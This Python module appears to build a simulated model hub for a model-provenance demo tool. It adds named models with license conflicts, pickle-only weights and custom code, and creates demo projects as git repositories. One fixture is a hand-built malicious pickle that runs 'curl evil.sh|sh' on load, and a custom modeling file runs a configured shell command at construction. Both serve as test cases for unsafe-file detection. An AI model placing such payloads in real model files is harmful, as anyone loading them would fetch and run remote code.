"""The demo's own world beside the generated Hub: well-known models that the demo projects load, and the
projects themselves (``projects.toml``) as local git repositories.

The generated Hub holds thousands of fine-tunes whose base models are not on it; the demo projects
load named models, so those are added with realistic records and cards: licenses that clash with the
projects that use them, a gated Llama with only pickle weights, a model with custom code, a fine-tune
whose declared license contradicts its base model's, and a model known under its pre-2024 id.
"""

from __future__ import annotations

import hashlib
import os
import random
import subprocess
import tomllib
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from importlib import resources
from pathlib import Path
from typing import Any

from ..replay.huggingface import HubCorpus

Record = dict[str, Any]

# Known under this id in month 1; the Hub renames it in month 2 (the 2024 namespacing of legacy ids).
LEGACY_ID = "bert-base-uncased"
LEGACY_NEW_ID = "google-bert/bert-base-uncased"


@dataclass(frozen=True)
class Flagship:
    model_id: str
    pipeline_tag: str
    library: str
    license: str | None
    params: int
    created: str
    downloads: int
    base_model: str | None = None
    relation: str | None = None
    gated: str | bool = False
    code_repo: str | None = None
    custom_code: bool = False
    pickle_only: bool = False
    malicious: bool = False


FLAGSHIPS: tuple[Flagship, ...] = (
    Flagship(LEGACY_ID, "fill-mask", "transformers", "apache-2.0", 110_106_428, "2018-11-01", 61_000_000),
    Flagship("google-bert/bert-base-cased", "fill-mask", "transformers", "apache-2.0", 108_310_272, "2018-11-01",
             4_100_000),
    Flagship("distilbert/distilbert-base-uncased", "fill-mask", "transformers", "apache-2.0", 66_985_530,
             "2019-10-02", 12_000_000),
    Flagship("distilbert/distilbert-base-uncased-finetuned-sst-2-english", "text-classification", "transformers",
             "apache-2.0", 66_955_010, "2020-02-04", 8_300_000, base_model="distilbert/distilbert-base-uncased",
             relation="finetune"),
    Flagship("TinyLlama/TinyLlama-1.1B-Chat-v1.0", "text-generation", "transformers", "apache-2.0",
             1_100_048_384, "2023-12-30", 1_400_000),
    Flagship("meta-llama/Llama-2-7b-chat-hf", "text-generation", "transformers", "llama2", 6_738_415_616,
             "2023-07-18", 900_000, gated="manual", pickle_only=True),
    Flagship("demo-org/llama-chat-apache", "text-generation", "transformers", "apache-2.0", 6_738_415_616,
             "2024-03-02", 1_200, base_model="meta-llama/Llama-2-7b-chat-hf", relation="finetune"),
    Flagship("demo-org/custom-arch", "feature-extraction", "transformers", "mit", 35_000_000, "2024-05-10", 5_400,
             code_repo="chat-tools/llm-runner", custom_code=True),
    Flagship("sentence-transformers/all-MiniLM-L6-v2", "sentence-similarity", "sentence-transformers",
             "apache-2.0", 22_713_216, "2021-08-30", 90_000_000),
    Flagship("demo-org/nc-embedder", "sentence-similarity", "sentence-transformers", "cc-by-nc-4.0", 22_713_216,
             "2024-01-15", 3_100, base_model="sentence-transformers/all-MiniLM-L6-v2", relation="finetune",
             code_repo="retail-insights/product-search"),
    Flagship("openai/whisper-tiny", "automatic-speech-recognition", "transformers", "apache-2.0", 37_760_640,
             "2022-09-26", 700_000),
    Flagship("speechbrain/spkrec-ecapa-voxceleb", "audio-classification", "speechbrain", "apache-2.0",
             20_770_000, "2021-03-10", 1_900_000, pickle_only=True),
    Flagship("demo-org/sst2-pickled", "text-classification", "transformers", "mit", 66_955_010, "2024-08-01", 90,
             base_model="distilbert/distilbert-base-uncased", relation="finetune", pickle_only=True, malicious=True),
)


def _iso(day: str, hours: int = 0) -> str:
    return (datetime.fromisoformat(day) + timedelta(hours=hours)).strftime("%Y-%m-%dT%H:%M:%S.000Z")


def _sha(*parts: str) -> str:
    return hashlib.sha1("\0".join(parts).encode()).hexdigest()


def _card(f: Flagship) -> str:
    meta = [f"license: {f.license}"] if f.license else []
    meta += [f"library_name: {f.library}", f"pipeline_tag: {f.pipeline_tag}"]
    if f.base_model:
        meta += [f"base_model: {f.base_model}"]
        if f.relation:
            meta += [f"base_model_relation: {f.relation}"]
    body = [f"# {f.model_id.rpartition('/')[2]}", ""]
    if f.base_model:
        body += [f"This model is a fine-tuned version of [{f.base_model}](https://huggingface.co/{f.base_model}).", ""]
    body += [f"It has {f.params / 1e6:.0f}M parameters.", ""]
    if f.code_repo:
        body += [f"Code: https://github.com/{f.code_repo}", ""]
    if f.custom_code:
        body += ["Load it with `trust_remote_code=True`: the architecture lives in `modeling_custom.py`.", ""]
    body += ["## Limitations", "", "Trained on English web text; it reflects the biases of that data.", ""]
    return "---\n" + "\n".join(meta) + "\n---\n\n" + "\n".join(body)


def _pickle_payload(malicious: bool) -> bytes:
    """A protocol-2 pickle written opcode by opcode (never produced by, nor loaded with, ``pickle``):
    a benign dict of tensors' names, or one that calls ``os.system`` when loaded."""
    if malicious:
        return b"\x80\x02cos\nsystem\nq\x00X\x0f\x00\x00\x00curl evil.sh|shq\x01\x85q\x02Rq\x03."
    return b"\x80\x02}q\x00(X\x06\x00\x00\x00weightq\x01K\x01X\x04\x00\x00\x00biasq\x02K\x00u."


def _safetensors() -> bytes:
    header = b'{"weight":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    header += b" " * (-len(header) % 8)
    return len(header).to_bytes(8, "little") + header + b"\x00" * 8


def add_flagships(corpus: HubCorpus, rng: random.Random) -> None:
    """Put the named models (records, cards and small real model files) on the demo Hub."""
    for f in FLAGSHIPS:
        author = f.model_id.partition("/")[0] if "/" in f.model_id else None
        sha = _sha(f.model_id, "v1")
        tags = [f"license:{f.license}"] if f.license else []
        tags += [f.library, f.pipeline_tag, "region:us"]
        if f.base_model:
            tags.append(f"base_model:{f.relation or 'finetune'}:{f.base_model}" if f.relation
                        else f"base_model:{f.base_model}")
        files: dict[str, bytes] = {"config.json": b'{"model_type": "demo"}\n'}
        if f.custom_code:
            files["config.json"] = (b'{"model_type": "custom", "auto_map": {"AutoModel": '
                                    b'"modeling_custom.CustomModel"}}\n')
            files["modeling_custom.py"] = (b"import os\nimport subprocess\n\n\nclass CustomModel:\n"
                                           b"    def __init__(self, config):\n"
                                           b"        subprocess.run(config.setup_cmd, shell=True)\n"
                                           b"        self.cache = os.path.join('/tmp', 'custom')\n")
        if f.pickle_only:
            files["pytorch_model.bin"] = _pickle_payload(f.malicious)
        else:
            files["model.safetensors"] = _safetensors()
        card = _card(f)
        siblings = [{"rfilename": name, "size": len(data)} for name, data in sorted(files.items())]
        siblings.append({"rfilename": "README.md", "size": len(card.encode())})
        card_data: Record = {"license": f.license, "library_name": f.library, "pipeline_tag": f.pipeline_tag}
        if f.base_model:
            card_data["base_model"] = f.base_model
        record: Record = {
            "_id": _sha(f.model_id)[:24], "id": f.model_id, "modelId": f.model_id, "author": author, "sha": sha,
            "private": False, "disabled": False, "gated": f.gated, "tags": tags,
            "downloads": f.downloads, "likes": f.downloads // 10_000 + rng.randrange(5),
            "library_name": f.library, "pipeline_tag": f.pipeline_tag,
            "createdAt": _iso(f.created), "lastModified": _iso(f.created, 24 * 30),
            "cardData": {k: v for k, v in card_data.items() if v is not None},
            "siblings": siblings, "spaces": [], "usedStorage": sum(len(d) for d in files.values()),
            "safetensors": None if f.pickle_only else {"parameters": {"F32": f.params}, "total": f.params},
            "config": {"auto_map": {"AutoModel": "modeling_custom.CustomModel"}} if f.custom_code else {},
            "securityStatus": {"scansDone": True, "hasUnsafeFile": f.malicious},
        }
        corpus.put_model(record)
        corpus.set_card(f.model_id, card)
        for name, data in files.items():
            corpus.set_file(f.model_id, name, data)


# --- the demo projects ---------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Project:
    name: str
    description: str
    license: str
    found_by: str  # search / paper / card
    files: Mapping[str, str]
    forks: tuple[str, ...] = ()
    expect: Mapping[str, Any] = field(default_factory=dict)


def load_projects() -> list[Project]:
    data = tomllib.loads(resources.files("ptmscope.demo").joinpath("projects.toml").read_text(encoding="utf-8"))
    return [Project(name=p["name"], description=p["description"], license=p["license"], found_by=p["found_by"],
                    files=p["files"], forks=tuple(p.get("forks", ())), expect=p.get("expect", {}))
            for p in data["project"]]


def git(repo: Path, *args: str) -> None:
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(repo), "GIT_CONFIG_NOSYSTEM": "1",
           "GIT_AUTHOR_NAME": "demo", "GIT_AUTHOR_EMAIL": "demo@example.invalid", "GIT_COMMITTER_NAME": "demo",
           "GIT_COMMITTER_EMAIL": "demo@example.invalid"}
    subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, env=env)


def commit(path: Path, message: str, files: Mapping[str, str]) -> None:
    for name, text in files.items():
        target = path / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text.lstrip("\n"), encoding="utf-8")
    git(path, "add", "-A")
    git(path, "commit", "-q", "-m", message)


def write_project(root: Path, project: Project, license_text: Callable[[str], str]) -> None:
    """The project as a git repository at ``root/owner/name``, and each fork as a clone of it with a
    commit of its own (two forks change a file, one is an untouched copy)."""
    path = root / project.name
    path.mkdir(parents=True, exist_ok=True)
    git(path, "init", "-q", "-b", "main")
    files = {name: license_text(text[1:]) if text.startswith("@") else text for name, text in project.files.items()}
    commit(path, "initial commit", files)
    for index, fork in enumerate(project.forks):
        fork_path = root / fork
        fork_path.parent.mkdir(parents=True, exist_ok=True)
        subprocess.run(["git", "clone", "-q", "--no-hardlinks", str(path), str(fork_path)], check=True,
                       capture_output=True)
        if index == 0:
            commit(fork_path, "use a safer checkpoint loader",
                   {"detect.py": files.get("detect.py", "").replace("torch.load(path)",
                                                                    "torch.load(path, weights_only=True)")})
        elif index == 2:
            head = 'import timm\n\nhead = timm.create_model("vit_base_patch16_224", pretrained=True)\n'
            commit(fork_path, "add a classifier head", {"classify.py": head})
